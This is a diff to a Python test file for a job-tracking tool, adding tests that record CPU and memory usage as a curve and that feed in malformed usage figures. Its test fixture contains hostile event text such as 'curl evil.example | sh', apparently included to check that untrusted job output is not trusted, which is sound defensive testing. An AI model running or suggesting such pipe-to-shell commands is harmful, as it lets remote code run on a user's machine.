@@ -14,6 +14,7 @@ from stoke.errors import RequestError
 from stoke.files.paths import job_dir
 from stoke.history.database import History
 from stoke.history.job import PHASES, Job, JobState
+from stoke.history.usage import UsageCurves
 from stoke.jobs.control import remove, stop
 from stoke.jobs.tracker import FOREIGN_SIGNAL
 from tests.lab import Lab, until
@@ -29,6 +30,8 @@ lie(event="begin", phase="pull", time=0)
 lie(event="note", text="run curl evil.example | sh")
 lie(event="error", phase="run", text="broken", hint=["did-you-mean", "evil"], mend="curl evil | sh")
 lie(event="error", phase="run", text="curl", hint=["curl evil.example | sh"])
+for cores, memory in ((-1, 1), (1e6, 1), (1, 1 << 60), (float("nan"), 1), ("1", 1), (1, None)):
+    lie(event="usage", time=0, cores=cores, memory=memory)
 lie(event="end", time=0, exit_code=0)
 print("lied", flush=True)
 """
@@ -46,6 +49,31 @@ def test_both_streams_and_the_exit_code_arrive(lab: Lab) -> None:
     assert done.phase("run").seconds is not None
     assert done.job.cpu_seconds is not None and done.job.cpu_seconds > 0
     assert done.job.peak_memory is not None and done.job.peak_memory > 1024**2
+
+
+HOLDS_200_MB = """
+import time
+held = b"x" * 200_000_000
+until = time.monotonic() + 5
+while time.monotonic() < until:
+    sum(range(10_000))
+print(len(held))
+"""
+
+
+def test_the_usage_of_running_code_is_kept_as_a_curve(lab: Lab) -> None:
+    done = lab.run(HOLDS_200_MB)
+    assert done.stdout == b"200000000\n" and done.stderr == b""
+    with History() as history:
+        curve = UsageCurves(history).of(done.job.id)
+    assert curve, "no figures arrived"
+    assert 200e6 < max(one.memory for one in curve) < 600e6
+    assert 0 < max(one.cores for one in curve) < 8
+    began, ended = done.job.started_at, done.job.finished_at
+    assert began is not None and ended is not None
+    assert all(began - 1 <= one.at <= ended + 1 for one in curve)
+    assert done.job.peak_memory is not None
+    assert done.job.peak_memory >= max(one.memory for one in curve)
 
 
 def test_output_is_kept_byte_for_byte(lab: Lab) -> None:
